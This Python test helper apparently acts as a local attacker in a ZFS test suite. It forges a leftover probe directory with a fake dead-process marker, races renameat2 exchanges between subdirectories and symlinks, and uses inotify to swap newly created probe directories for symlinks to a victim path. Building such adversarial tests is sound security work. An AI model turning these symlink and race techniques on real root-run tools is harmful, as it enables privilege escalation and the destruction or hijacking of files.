#!/usr/bin/env python3
"""A local attacker for the real-ZFS suite: runs as an unprivileged user inside the VM while root
probes a dataset directory that this user can write to. Standard library only (ctypes for
renameat2 and inotify).

  attacker.py plant DIR RUN_ID SUBDIRS        a forged leftover: DIR/.zfs-dio-probe-RUN_ID with a
                                              marker naming a dead process, SUBDIRS subdirectories
  attacker.py swap LEFTOVER TARGET SUBDIRS    exchange each subdirectory with a symbolic link to
                                              TARGET, in a loop, until killed
  attacker.py watch-swap DIR TARGET LOG       on every new .zfs-dio-probe-* in DIR: move it away and
                                              put a symbolic link to TARGET in its place
  attacker.py watch-ab DIR VICTIM LOG         on every new .zfs-dio-probe-<id> in DIR: plant links to
                                              VICTIM under each name an A/B child could get, and
                                              record whether anything is ever mounted on VICTIM
Every action is appended to LOG (one line each); SIGTERM ends the watchers cleanly.
"""
import ctypes
import json
import os
import re
import signal
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)
RENAME_EXCHANGE = 2
AT_FDCWD = -100
IN_CREATE = 0x100
IN_MOVED_TO = 0x80
SCRATCH = re.compile(r"^\.zfs-dio-probe-([0-9a-f]{6,32})$")
stop = False


def on_term(_s, _f):
    global stop
    stop = True


def log(path, line):
    with open(path, "a") as f:
        f.write(line + "\n")


def plant(d, run_id, subdirs):
    leftover = os.path.join(d, ".zfs-dio-probe-" + run_id)
    os.mkdir(leftover, 0o700)
    with open(os.path.join(leftover, ".zfs-dio-probe-marker.json"), "w") as f:
        json.dump({"tool": "zfs-dio-assistant", "runId": run_id, "pid": 999999, "pidStart": None,
                   "ppid": 999999, "ppidStart": None}, f)
    for i in range(subdirs):
        os.mkdir(os.path.join(leftover, "d%d" % i))
        with open(os.path.join(leftover, "d%d" % i, "x"), "w") as f:
            f.write("x")
    # cross-user: the planting user's own files, which the prober may not be able to delete
    with open(os.path.join(leftover, "cfr-src"), "w") as f:
        f.write("not yours")


def swap(leftover, target, subdirs):
    for i in range(subdirs):
        try:
            os.symlink(target, os.path.join(leftover, "l%d" % i))
        except OSError:
            pass
    while not stop:
        for i in range(subdirs):
            libc.renameat2(AT_FDCWD, os.path.join(leftover, "d%d" % i).encode(),
                           AT_FDCWD, os.path.join(leftover, "l%d" % i).encode(), RENAME_EXCHANGE)


def inotify(d):
    fd = libc.inotify_init()
    if fd < 0 or libc.inotify_add_watch(fd, d.encode(), IN_CREATE | IN_MOVED_TO) < 0:
        raise OSError(ctypes.get_errno(), "inotify on %s" % d)
    return fd


def created_names(fd, tick=None):
    """Yields the names created in the watched directory until SIGTERM; calls tick() about every
    10 ms in between (select with a timeout: a blocking read would outlive the signal)."""
    import select
    os.set_blocking(fd, False)
    while not stop:
        if tick:
            tick()
        r, _w, _x = select.select([fd], [], [], 0.01)
        if not r:
            continue
        data = os.read(fd, 65536)
        i = 0
        while i + 16 <= len(data):
            _wd, _mask, _cookie, n = struct.unpack_from("iIII", data, i)
            yield data[i + 16:i + 16 + n].rstrip(b"\0").decode(errors="replace")
            i += 16 + n


def watch_swap(d, target, logfile):
    fd = inotify(d)
    log(logfile, "ready")
    for name in created_names(fd):
        if not SCRATCH.match(name):
            continue
        p = os.path.join(d, name)
        if os.path.islink(p):
            continue   # our own link (its creation is an event too)
        try:
            os.rename(p, os.path.join(d, "moved-" + name))
            os.symlink(target, p)
            log(logfile, "swapped %s" % name)
        except OSError as e:
            log(logfile, "missed %s: %s" % (name, e))


def mounted_on(path):
    with open("/proc/self/mountinfo") as f:
        return any(line.split()[4] == path for line in f)


def watch_ab(d, victim, logfile):
    fd = inotify(d)
    log(logfile, "ready")
    seen = [False]

    def check():
        if mounted_on(victim):
            seen[0] = True
    for name in created_names(fd, check):
        m = SCRATCH.match(name)
        if not m:
            continue
        for direct in ("always", "standard"):
            for prefix in ("zfs-dio-probe-", ".zfs-dio-probe-"):
                link = os.path.join(d, "%s%s-%s" % (prefix, m.group(1), direct))
                try:
                    os.symlink(victim, link)
                    log(logfile, "planted %s" % os.path.basename(link))
                except OSError as e:
                    log(logfile, "could not plant %s: %s" % (os.path.basename(link), e))
    log(logfile, "victim mounted: %s" % ("yes" if seen[0] or mounted_on(victim) else "no"))


def main():
    signal.signal(signal.SIGTERM, on_term)
    cmd, args = sys.argv[1], sys.argv[2:]
    if cmd == "plant":
        plant(args[0], args[1], int(args[2]))
    elif cmd == "swap":
        swap(args[0], args[1], int(args[2]))
    elif cmd == "watch-swap":
        watch_swap(*args)
    elif cmd == "watch-ab":
        watch_ab(*args)
    else:
        sys.exit("unknown command %s" % cmd)


if __name__ == "__main__":
    main()
